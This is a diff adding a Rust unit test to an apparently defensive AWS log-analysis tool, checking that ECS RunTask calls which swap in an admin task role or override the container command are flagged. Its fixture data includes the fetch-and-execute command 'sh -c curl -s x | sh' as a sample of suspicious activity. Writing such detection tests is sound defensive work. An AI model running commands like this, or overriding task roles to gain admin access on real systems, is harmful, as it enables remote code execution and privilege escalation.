@@ -2104,6 +2104,76 @@ fn a_task_definition_given_a_new_role_is_an_attention_item() {
     assert!(job.why.contains("The role's sessions made no call in the rows looked at."), "{}", job.why);
 }
 
+/// `RunTask`'s `overrides.taskRoleArn` ("the ARN of the role that containers in this task can
+/// assume", in place of the task definition's) and `containerOverrides[].command` (in place of
+/// the image's): a task started with a role its task definition does not give is an item.
+#[test]
+fn a_task_started_with_another_role_is_an_attention_item() {
+    use crate::analysis::identity::{AttentionKind, Severity};
+    let mut l = Log::new();
+    let web_role = format!("arn:aws:iam::{ACCOUNT}:role/web-task");
+    let admin = format!("arn:aws:iam::{ACCOUNT}:role/admin");
+    l.task_def_as(0, CI, ("web", 1), &[&image_uri("web/app", ":latest")], &web_role);
+    let run = |role: &str, command: &[&str], td: &str| {
+        let mut overrides = json!({"containerOverrides": [{"name": "c0", "command": command}]});
+        if !role.is_empty() {
+            overrides["taskRoleArn"] = json!(role);
+        }
+        json!({"cluster": "prod", "taskDefinition": td, "overrides": overrides})
+    };
+    l.add(
+        100,
+        "ecs.amazonaws.com",
+        "RunTask",
+        MARY,
+        run(&admin, &["sh", "-c", "curl -s x | sh"], "web:1"),
+        Value::Null,
+    );
+    // The task definition's own role, and a command alone: no item.
+    l.add(110, "ecs.amazonaws.com", "RunTask", CI, run(&web_role, &[], "web:1"), Value::Null);
+    l.add(120, "ecs.amazonaws.com", "RunTask", CI, run("", &["./migrate"], "web:1"), Value::Null);
+    // A task definition registered before the logs.
+    l.add(130, "ecs.amazonaws.com", "RunTask", CI, run(&admin, &[], "old:4"), Value::Null);
+    let items = attention_of(&l, AttentionKind::TaskRoleOverridden);
+    assert_eq!(
+        titles(&items),
+        [
+            ("Task of old started with role admin", Severity::High, CI),
+            ("Task of web started with role admin", Severity::High, MARY)
+        ]
+    );
+    let web = items.iter().find(|a| a.who == MARY).unwrap();
+    let expected = format!(
+        "RunTask of web:1 started at 2026-03-01 10:01:40 UTC on cluster prod from 203.0.113.12 with docker, with its task \
+         role overridden: {admin} (its task definition gives {web_role}). It also ran, in place of the image's command: \
+         sh -c curl -s x | sh. The role's sessions made no call in the rows looked at."
+    );
+    assert!(web.why.starts_with(&expected), "{}", web.why);
+    let old = items.iter().find(|a| a.who == CI).unwrap();
+    assert!(old.why.contains("(its task definition's registration is not in these logs)."), "{}", old.why);
+    // The ECS list says what each start overrode.
+    let e = l.engine();
+    let ContainerAnswer::Deployments(list) = ask(&e, Filter::default(), Ask::Deployments { offset: 0 }) else {
+        panic!()
+    };
+    let mut said: Vec<(&str, &str)> = list
+        .items
+        .iter()
+        .filter(|i| i.call == "RunTask")
+        .map(|i| (i.role_override.as_str(), i.detail.as_str()))
+        .collect();
+    said.sort_unstable();
+    assert_eq!(
+        said,
+        [
+            ("", "command overridden: ./migrate"),
+            (admin.as_str(), ""),
+            (admin.as_str(), "command overridden: sh -c curl -s x | sh"),
+            (web_role.as_str(), ""),
+        ]
+    );
+}
+
 #[test]
 fn an_image_an_ecs_service_runs_expired_by_a_new_policy_is_in_use() {
     use crate::analysis::identity::{AttentionKind, Severity};
